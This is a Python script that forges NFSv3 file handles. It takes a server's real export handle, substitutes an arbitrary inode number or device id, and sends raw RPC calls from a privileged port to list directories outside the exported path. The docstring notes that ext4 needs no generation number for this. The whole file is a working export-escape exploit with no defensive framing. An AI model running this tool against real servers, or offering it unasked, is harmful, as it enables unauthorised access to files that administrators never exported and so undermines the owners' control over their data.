"""Lists a directory of the server's filesystem by a file handle that was made up: forged.py SERVER EXPORT INODE [MAJOR:MINOR]

The handle of the export itself (MOUNT) says how the server names the filesystem. Behind that name any inode may be written, and on ext4
no generation is needed. MAJOR:MINOR names another filesystem by its device. One line for each entry; exit 1 and the status where the server refuses.

    01 00 TT FF | fsid | inode, generation
    version, authentication, TT kind of fsid, FF kind of file id: 00 the export itself, 01 inode and generation
"""

import socket
import struct
import sys

TIMEOUT = 20


class Reader:
    def __init__(self, data):
        self.data, self.at = data, 0

    def number(self, form="I"):
        (value,) = struct.unpack_from(">" + form, self.data, self.at)
        self.at += struct.calcsize(form)
        return value

    def opaque(self):
        length = self.number()
        value = self.data[self.at : self.at + length]
        self.at += -(-length // 4) * 4
        return value


def opaque(data):
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


def connect(server, port):
    """From a port that only root may use, as exports want it."""
    for own in range(1023, 600, -1):
        link = socket.socket()
        link.settimeout(TIMEOUT)
        try:
            link.bind(("", own))
            link.connect((server, port))
            return link
        except OSError:
            link.close()
    sys.exit("no port is free")


def call(server, port, program, version, procedure, arguments):
    """ONC RPC over TCP as root (RFC 5531); the answer behind its head."""
    root = opaque(struct.pack(">I", 0) + opaque(b"client") + struct.pack(">III", 0, 0, 0))
    head = struct.pack(">IIIIII", 7, 0, 2, program, version, procedure)
    message = head + struct.pack(">I", 1) + root + struct.pack(">II", 0, 0) + arguments
    with connect(server, port) as link:
        link.sendall(struct.pack(">I", 0x80000000 | len(message)) + message)
        answer, is_last = b"", False
        stream = link.makefile("rb")
        while not is_last:
            (mark,) = struct.unpack(">I", stream.read(4))
            answer, is_last = answer + stream.read(mark & 0x7FFFFFFF), bool(mark & 0x80000000)
    reader = Reader(answer)
    _, _, denied, _ = (reader.number() for _ in range(4))
    reader.opaque()
    accepted = reader.number()
    if denied or accepted:
        sys.exit(f"RPC refused: {denied} {accepted}")
    return reader


def port_of(server, program, version):
    return call(server, 111, 100000, 2, 3, struct.pack(">IIII", program, version, 6, 0)).number()


def handle_of(server, export):
    mounted = call(server, port_of(server, 100005, 3), 100005, 3, 1, opaque(export.encode()))
    status = mounted.number()
    if status:
        sys.exit(f"MOUNT refused: {status}")
    return mounted.opaque()


def forged(known, inode, device):
    version, authentication, kind, _ = known[:4]
    fsid = known[4:] if known[3] == 0 else sys.exit("the export is not where the handle begins")
    if device:
        major, minor = (int(part) for part in device.split(":"))
        kind, fsid = 0, struct.pack(">HHI", major, minor, inode)
    return bytes([version, authentication, kind, 1]) + fsid + struct.pack("<II", inode, 0)


def names(server, handle):
    listed = call(server, 2049, 100003, 3, 16, opaque(handle) + struct.pack(">QQI", 0, 0, 4096))
    status = listed.number()
    if status:
        sys.exit(f"READDIR refused: {status}")
    if listed.number():
        listed.at += 84  # attributes
    listed.number("Q")
    while listed.number():
        listed.number("Q")
        yield listed.opaque().decode()
        listed.number("Q")


server, export, inode, *device = sys.argv[1:]
for name in names(server, forged(handle_of(server, export), int(inode), device[0] if device else None)):
    print(name)
